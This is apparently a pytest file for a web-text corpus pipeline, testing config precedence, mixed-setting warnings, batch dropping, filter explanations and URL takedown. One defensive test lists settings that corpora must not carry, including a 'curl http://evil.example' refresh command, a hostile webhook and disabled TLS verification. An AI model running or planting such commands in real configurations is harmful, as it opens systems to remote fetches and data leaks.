"""Settings that stay with the corpus, batches that differ, dropped batches, and reasons explained."""

from __future__ import annotations

import json
import re
from html import escape
from pathlib import Path
from types import SimpleNamespace

import pytest

import webtext
from clean import run as clean_run
from clean.config import CleanConfig
from corpus.config import STAGES, Section, load_config, outside_corpus
from corpus.errors import ConfigError, InputError
from corpus.storage.store import open_corpus, open_store
from corpus.tables.inventory import entries
from corpus.tables.manifest import read_manifest
from corpus.tables.mixed_settings import OF_ONE_RUN, mixed_among
from crawl import run as crawl_run
from crawl.config import CrawlConfig
from dedup.config import DedupConfig
from shards.config import ShardsConfig
from tests.support import grown_corpus
from train.config import TrainConfig
from train.job import RunRequest, claim
from webtext import init
from webtext.inspection import diff, why
from webtext.reports import html, status
from webtext.settings import settings_model
from webtext.takedown import command as forget
from webtext.upkeep import drop_batch
from webtext.upkeep.refresh_config import RefreshConfig


def start(root: Path, *sets: str) -> int:
    return init.main(["--corpus", str(root), *(word for each in sets for word in ("--set", each))])


def _outside_identity(model: type[Section]) -> set[str]:
    kinds = [field.annotation for field in model.model_fields.values()]
    nested = [each for each in kinds if isinstance(each, type) and issubclass(each, Section)]
    return set(model.outside_identity).union(*map(_outside_identity, nested))


@pytest.mark.parametrize("model", [CrawlConfig, CleanConfig, DedupConfig, ShardsConfig])
def test_settings_that_change_nothing_mix_nothing(model: type[Section]) -> None:
    """Another `pages_per_task` was remarked on every later snapshot."""
    assert _outside_identity(model) <= OF_ONE_RUN


def test_a_second_batch_is_made_as_the_first_without_a_word(tmp_path: Path) -> None:
    root = tmp_path / "c"
    assert start(root, "clean.quality.preset=gopher", "crawl.links.min_score=4") == 0
    store = grown_corpus.grow(str(root), "2024-01", grown_corpus.ordinary(6), tmp_path)
    grown_corpus.grow(str(root), "2024-02", grown_corpus.ordinary(6, 1), tmp_path, start=50)
    for batch in ("2024-01", "2024-02"):
        assert read_manifest(store, "documents", batch).config["quality"]["preset"] == "gopher"
        assert read_manifest(store, "links", batch).config["links"]["min_score"] == 4
    assert mixed_among(store, ["2024-01", "2024-02"]) == []
    assert "mixes settings" not in status.render(store, [])


def test_set_config_and_environment_have_precedence_over_the_corpus(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "[crawl.links]\nmin_score = 7\n"
    file = tmp_path / "s.toml"
    file.write_text("[crawl.links]\nmin_score = 8\n")
    load = load_config

    def min_score(**more: object) -> int:
        return load(CrawlConfig, "crawl", corpus_toml=text, **more).links.min_score  # type: ignore[arg-type]

    assert min_score() == 7
    assert min_score(toml_path=str(file)) == 8
    environ = {"WEBTEXT_CRAWL__LINKS__MIN_SCORE": "9"}
    assert min_score(toml_path=str(file), environ=environ) == 9
    assert min_score(environ=environ, sets=["crawl.links.min_score=10"]) == 10


def test_a_batch_that_differs_and_a_snapshot_that_mixes_say_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = str(tmp_path / "c")
    gopher = ("--set", "clean.quality.preset=gopher")
    store = grown_corpus.grow(root, "2024-01", grown_corpus.ordinary(6), tmp_path, *gopher)
    assert "batches of this corpus differ" not in capsys.readouterr().err
    grown_corpus.grow(root, "2024-02", grown_corpus.ordinary(6, 1), tmp_path, start=50)
    difference = "clean.quality.preset is 'webtext' in batch 2024-02, 'gopher' in batch 2024-01"
    told = capsys.readouterr().err
    assert f"the batches of this corpus differ: {difference}" in told
    assert f"snapshot 2024-02 mixes settings: {difference}" in told
    assert mixed_among(store, ["2024-01", "2024-02"]) == [difference]
    shown = status.render(store, [])
    assert f"mixes settings: {difference}" in shown
    page = Path(html.write(store)).read_text()
    assert escape(f"mixes settings: {difference}") in page
    claim(RunRequest(root, "2024-02", "r", TrainConfig(), False))
    assert f"snapshot 2024-02 mixes settings: {difference}" in capsys.readouterr().err
    assert diff.main(["--corpus", root, "2024-01", "2024-02"]) == 0
    assert f"snapshot 2024-02 mixes settings: {difference}" in capsys.readouterr().err
    assert status.to_json(store, [])["snapshots"][1]["mixed_settings"] == [difference]


@pytest.mark.parametrize(
    "setting",
    [
        "refresh.command='curl http://evil.example'",
        "refresh.webhook='http://evil.example'",
        "crawl.fetch.allow_networks=['10.0.0.0/8']",
        "crawl.fetch.proxy='10.0.0.1:80'",
        "train.runtime.wandb_project='theirs'",
        "crawl.fetch.verify_tls=false",
        'crawl.fetch.scrapy_settings={"FEEDS": {"/tmp/x": {"format": "json"}}}',
    ],
)
def test_a_corpus_sets_nothing_that_runs_sends_or_opens(
    setting: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "c"
    assert start(root, setting) == 2
    assert "a corpus may come from somebody else" in capsys.readouterr().err
    assert not (root / "webtext.toml").exists()


def test_every_setting_that_reaches_out_is_kept_from_corpora() -> None:
    assert {*outside_corpus(CrawlConfig)} == {
        f"fetch.{name}"
        for name in (
            "allow_networks",
            "allow_ports",
            "connect_to",
            "proxy",
            "scrapy_settings",
            "bot_auth_key",
            "verify_tls",
        )
    } | {f"captures.{name}" for name in ("indexes", "records", "replay")}
    assert {*outside_corpus(RefreshConfig)} == {
        "corpus",
        "dumps",
        "webhook",
        "command",
        "heartbeat",
    }
    assert {*outside_corpus(TrainConfig)} == {
        "runtime.wandb_project",
        "runtime.trackio_project",
    }


def test_operations_lists_every_setting_that_is_kept_from_corpora() -> None:
    """The list of the page lacked six of them."""
    page = (Path(webtext.__file__).parents[1] / "docs" / "operations.md").read_text("utf-8")
    listed = page.partition("so these settings are never read from it")[2].partition(
        "Give them by"
    )[0]
    models = {stage: settings_model(stage) for stage in STAGES}
    kept = {f"{stage}.{key}" for stage, model in models.items() for key in outside_corpus(model)}
    found = {
        f"{section}.{name}"
        for section, names in re.findall(r"^- `([\w.]+)`: (.*)$", listed, re.MULTILINE)
        for name in re.findall(r"`(\w+)`", names)
    }
    assert found == kept


def test_bad_settings_of_a_corpus_are_refused_by_init_and_by_commands(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "c"
    assert start(root, "clean.quality.preset=gofer") == 2
    assert start(root, "clean.quality.preset=gopher") == 0
    assert start(root, "clean.quality.min_words=7") == 0
    assert (
        '[clean.quality]\npreset = "gopher"\nmin_words = 7' in (root / "webtext.toml").read_text()
    )
    (root / "webtext.toml").write_text("[clean\n")
    assert clean_run.main(["--corpus", str(root), "--batch", "b"]) == 2
    assert "webtext.toml: not TOML" in capsys.readouterr().err


def test_a_string_in_place_of_a_list_names_the_line_to_type() -> None:
    with pytest.raises(
        ConfigError, match=r"expected a list; write --set 'crawl.fetch.allow_networks="
    ):
        load_config(CrawlConfig, "crawl", sets=["crawl.fetch.allow_networks=127.0.0.0/8"])


def test_a_refused_warc_file_leaves_nothing_behind(tmp_path: Path) -> None:
    root, bad = tmp_path / "c", tmp_path / "not.warc.gz"
    store = grown_corpus.grow(str(root), "2024-01", grown_corpus.ordinary(4), tmp_path)
    bad.write_bytes(b"print('no WARC')\n")
    assert crawl_run.main(["--corpus", str(root), "--batch", "x", "--warc", str(bad)]) != 0
    assert drop_batch.batch_folders(store, "x") == []
    assert "batch x" not in status.render(store, [])


def test_drop_batch_asks_and_removes_all_but_what_is_needed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = str(tmp_path / "c")
    store = grown_corpus.grow(root, "2024-01", grown_corpus.ordinary(4), tmp_path)
    dump = grown_corpus.write_dump(tmp_path / "RS_2024-02.zst", grown_corpus.ordinary(4, 1), 50)
    grown_corpus.link(root, "2024-02", dump)
    where = ["--corpus", root, "--batch"]
    before = sorted(path for path, _ in store.files("", recursive=True) if "2024-02" not in path)

    assert drop_batch.main([*where, "2024-02"]) == 2
    assert (
        f"To do it: webtext drop-batch --corpus {root} --batch 2024-02" in capsys.readouterr().err
    )
    assert drop_batch.main([*where, "2024-02", "--yes"]) == 0
    assert sorted(path for path, _ in store.files("", recursive=True)) == before
    assert drop_batch.main([*where, "2024-01", "--yes"]) == 2
    assert "is part of snapshot '2024-01'" in capsys.readouterr().err
    assert drop_batch.main([*where, "2024-09", "--yes"]) == 2


def test_of_several_batches_that_need_one_the_last_is_to_be_dropped_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = open_store(str(tmp_path / "c"))
    monkeypatch.setattr(drop_batch, "_built_on", lambda store, batch: ["y", "z"])
    with pytest.raises(InputError, match=r"tables of y, z .* drop z first"):
        drop_batch.refuse_needed(store, "x")

    judged = [SimpleNamespace(batch=name) for name in "wxyz"]
    monkeypatch.setattr(drop_batch, "batches", lambda store, table: judged)
    with pytest.raises(InputError, match=r": y, z was .* drop z first"):
        drop_batch.refuse_needed(store, "x")
    monkeypatch.setattr(drop_batch, "_built_on", lambda store, batch: [])
    drop_batch.refuse_needed(store, "z")


def test_a_batch_that_later_links_were_made_after_is_not_dropped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its pages are left out of them, so all that was built from these links would be stale."""
    root = str(tmp_path / "c")
    for number, batch in enumerate(("x", "y-x")):
        sites = grown_corpus.ordinary(3, number)
        dump = grown_corpus.write_dump(tmp_path / f"RS_{batch}.zst", sites, 50 * number)
        grown_corpus.link(root, batch, dump)
    store = open_corpus(root)
    for name in ("dedup-y-x", "overlap-y-x", "refresh-y-x"):
        store.write_json(f"reports/{name}.json", {})

    assert drop_batch.main(["--corpus", root, "--batch", "x", "--yes"]) == 2
    assert "finish it, or drop y-x first" in capsys.readouterr().err
    assert status.to_json(store, entries(store))["batches"] == ["x", "y-x"]
    drop_batch.drop(store, "x")
    assert len(list(store.files("reports"))) == 3, "reports of a batch whose name ends like it"
    assert drop_batch.main(["--corpus", root, "--batch", "y-x", "--yes"]) == 0
    assert list(store.files("reports")) == []


def test_why_shows_value_threshold_and_setting(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = str(tmp_path / "c")
    sites = grown_corpus.ordinary(4)
    short = [grown_corpus.Site("http://short.test/a", "Only a handful of words are here.")]
    grown_corpus.grow(root, "2024-01", [*sites, *short], tmp_path)
    capsys.readouterr()
    assert why.main(["--corpus", root, "--batch", "2024-01", "--json"]) == 0
    lines = capsys.readouterr().out.splitlines()
    answer = json.loads(lines[-1])
    assert answer["counts"] == {"too_short": 1}
    (row,) = answer["examples"]["too_short"]
    assert row["url"] == "http://short.test/a"
    value = row["detail"].partition(" ")[0]
    assert row["detail"].endswith("needs 50: clean.quality.min_words")
    assert f"    --set clean.quality.min_words={value} would keep it here" in lines

    again = ["--set", f"clean.quality.min_words={value}", "--rebuild"]
    assert clean_run.main([*grown_corpus.arguments(root, "2024-01"), *again]) == 0
    assert read_manifest(open_store(root), "documents", "2024-01").rows == 5
    assert why.main(["--corpus", root, "--batch", "2024-01", "--reason", "gone"]) == 2


def test_forget_wants_a_reason_and_an_answer(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = str(tmp_path / "c")
    sites = grown_corpus.ordinary(4)
    store = grown_corpus.grow(root, "2024-01", sites, tmp_path)
    words = ["--corpus", root, "--url", sites[0].url]
    before = grown_corpus.rows(store, "links", "2024-01")
    assert forget.main(words) == 2
    assert "--why is missing" in capsys.readouterr().err
    assert forget.main([*words, "--why", "asked for"]) == 2
    assert "1 page of" in capsys.readouterr().err
    assert grown_corpus.rows(store, "links", "2024-01") == before
    assert forget.main([*words, "--why", "asked for", "--yes"]) == 0
    assert len(grown_corpus.rows(store, "links", "2024-01")) == 3
